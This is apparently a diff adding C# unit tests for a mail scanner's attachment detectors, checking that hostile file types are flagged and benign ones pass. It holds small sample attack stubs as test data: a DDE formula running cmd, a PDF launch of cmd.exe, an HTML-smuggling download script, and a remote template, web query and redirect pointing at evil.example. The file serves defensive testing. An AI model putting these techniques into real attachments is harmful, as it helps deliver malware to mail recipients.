@@ -1,0 +1,108 @@
+using Platform.Engine.Detectors;
+using Platform.Engine.Detectors.Files;
+using Platform.Engine.Intelligence;
+using Platform.Engine.Mail;
+
+namespace Platform.Engine.Tests.Detectors.Files;
+
+public sealed class FileSignsTests
+{
+    private static readonly IDetector[] Detectors = [new TestVirus(), new ExecutableFile(), new FileNames(), new EncryptedArchive(), new OfficeMacro(), new PdfActive(), new RiskyFile(), new HtmlSmuggling()];
+
+    public static TheoryData<string, string, byte[]> Hostile => new()
+    {
+        { "eicar-test-file", "eicar.com", TestFiles.EicarTestFile },
+        { "eicar-test-file", "eicar.zip", TestFiles.Zip(("eicar.txt", TestFiles.EicarTestFile)) },
+        { "eicar-test-file", "twice.zip", TestFiles.Zip(("inner.zip", TestFiles.Zip(("eicar.txt", TestFiles.EicarTestFile)))) },
+        { "executable-disguised", "invoice.pdf", TestFiles.Program },
+        { "executable-disguised", "photos.zip", TestFiles.Zip(("photo.jpg", TestFiles.Program)) },
+        { "executable-attachment", "setup.exe", TestFiles.Program },
+        { "executable-attachment", "setup", TestFiles.Program },
+        { "executable-attachment", "update.scr", TestFiles.Program },
+        { "script-attachment", "invoice.js", TestFiles.Text("var s = new ActiveXObject('WScript.Shell');") },
+        { "script-attachment", "readme.hta", TestFiles.Text("<html><script>1</script></html>") },
+        { "archive-with-executable", "invoice.zip", TestFiles.Zip(("invoice.js", TestFiles.Text("WScript.Echo(1)"))) },
+        { "archive-with-executable", "invoice.zip", TestFiles.Zip(("invoice.lnk", TestFiles.Shortcut)) },
+        { "double-extension", "invoice.pdf.exe", TestFiles.Program },
+        { "double-extension", "請求書.pdf                    .js", TestFiles.Text("WScript.Echo(1)") },
+        { "double-extension", "invoice.pdf.html", TestFiles.Text("<html></html>") },
+        { "right-to-left-name", "invoice\u202efdp.exe", TestFiles.Program },
+        { "type-mismatch", "invoice.pdf", TestFiles.Text("<html><body><script>1</script></body></html>") },
+        { "type-mismatch", "invoice.doc", TestFiles.Shortcut },
+        { "encrypted-archive", "files.zip", TestFiles.EncryptedZip() },
+        { "macro-document", "report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.Ole("_VBA_PROJECT"))) },
+        { "macro-document", "report.docx", TestFiles.Word(("word/vbaProject.bin", TestFiles.Ole("_VBA_PROJECT"))) },
+        { "macro-document", "report.doc", TestFiles.Ole("_VBA_PROJECT") },
+        { "external-template", "report.docx", TestFiles.Word(("word/_rels/settings.xml.rels", TestFiles.Text("<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"))) },
+        { "dynamic-data-exchange", "list.csv", TestFiles.Text("name,value\n=cmd|'/C calc'!A0,1\n") },
+        { "pdf-launch", "form.pdf", TestFiles.Pdf("/Type /Action /S /Launch /F (cmd.exe)") },
+        { "pdf-javascript", "form.pdf", TestFiles.Pdf("/S /JavaScript /JS (app.alert(1))") },
+        { "pdf-open-action", "form.pdf", TestFiles.Pdf("/OpenAction << /S /JavaScript /JS (1) >>") },
+        { "pdf-hidden-name", "form.pdf", TestFiles.Pdf("/S /J#61vaScript /JS (1)") },
+        { "pdf-embedded-file", "form.pdf", TestFiles.Pdf("/EmbeddedFile /Length 1") },
+        { "shortcut-attachment", "photo.lnk", TestFiles.Shortcut },
+        { "shortcut-attachment", "page.url", TestFiles.Text("[InternetShortcut]\r\nURL=file://198.51.100.7/x\r\n") },
+        { "web-query-attachment", "data.iqy", TestFiles.Text("WEB\r\n1\r\nhttps://evil.example/q\r\n") },
+        { "onenote-attachment", "notes.one", TestFiles.Notebook },
+        { "disk-image-attachment", "invoice.iso", TestFiles.DiskImage() },
+        { "disk-image-attachment", "invoice.img", TestFiles.DiskImage() },
+        { "html-attachment", "voicemail.htm", TestFiles.Text("<html><body>Listen</body></html>") },
+        { "html-attachment", "scan.svg", TestFiles.Text("<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>") },
+        { "html-smuggling", "open.html", TestFiles.Text("<html><script>var b=new Blob([atob('AAAA')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script></html>") },
+        { "html-smuggling", "open.svg", TestFiles.Text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>navigator.msSaveBlob(new Blob([Uint8Array.from(atob('AA'))]),'x.zip')</script></svg>") },
+        { "html-obfuscated-script", "open.html", TestFiles.Text("<html><script>document.write(unescape('%3Cform%3E'))</script></html>") },
+        { "html-redirect-attachment", "open.html", TestFiles.Text("<html><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></html>") },
+    };
+
+    public static TheoryData<string, byte[]> Ordinary => new()
+    {
+        { "report.pdf", TestFiles.Pdf("/Type /Catalog /OpenAction [3 0 R /Fit]") },
+        { "photo.png", TestFiles.Picture },
+        { "v1.2.report.pdf", TestFiles.Pdf("/Type /Catalog") },
+        { "report.docx", TestFiles.Word(("word/_rels/document.xml.rels", TestFiles.Text("<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://partner.example\" TargetMode=\"External\"/></Relationships>"))) },
+        { "report.doc", TestFiles.Ole("WordDocument") },
+        { "photos.zip", TestFiles.Zip(("a.png", TestFiles.Picture), ("b.txt", TestFiles.Text("hello"))) },
+        { "notes.txt", TestFiles.Text("function f() { var x = 1; document.write(x); }") },
+        { "fix.patch", TestFiles.Text("--- a/x.js\n+++ b/x.js\n+var x = new ActiveXObject('WScript.Shell');\n") },
+        { "list.csv", TestFiles.Text("name,value\napple,=SUM(A1)\n") },
+        { "meeting.ics", TestFiles.Text("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n") },
+        { "請求書.pdf", TestFiles.Pdf("/Type /Page") },
+        { "quoted.txt", [.. "The test string is: "u8, .. TestFiles.EicarTestFile] },
+        { "archive.tar.gz", TestFiles.Text("not really compressed") },
+    };
+
+    [Theory]
+    [MemberData(nameof(Hostile))]
+    public void Hostile_files_are_seen(string sign, string name, byte[] content)
+    {
+        Assert.Contains(sign, Signs(new TestMail { Files = [(name, content)] }));
+    }
+
+    [Theory]
+    [MemberData(nameof(Ordinary))]
+    public void Ordinary_files_pass(string name, byte[] content)
+    {
+        Assert.Empty(Signs(new TestMail { Files = [(name, content)] }));
+    }
+
+    [Theory]
+    [InlineData("解凍パスワードは 1234 です。")]
+    [InlineData("The password is 1234.")]
+    [InlineData("비밀번호는 1234 입니다.")]
+    public void An_encrypted_file_with_its_password_in_the_mail_is_seen(string text)
+    {
+        Assert.Contains("encrypted-archive-with-password", Signs(new TestMail { Text = text, Files = [("files.zip", TestFiles.EncryptedZip())] }));
+    }
+
+    [Fact]
+    public void A_logo_inside_the_body_is_a_picture()
+    {
+        const string mail = "From: a@partner.example\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:1\">\r\n--b\r\nContent-Type: image/svg+xml; name=logo.svg\r\nContent-ID: <1>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>\r\n--b--\r\n";
+        var message = new MailReader().Read(TestFiles.Text(mail), ScanLimits.Default, CancellationToken.None);
+        var input = new DetectionInput(message, Envelope.None, ScanContext.Offline(TestMail.Now), Origin.Unknown);
+
+        Assert.Empty(new RiskyFile().Inspect(input));
+    }
+
+    private static IReadOnlyList<string> Signs(TestMail mail) => [.. Detectors.SelectMany(detector => mail.SignsOf(detector))];
+}
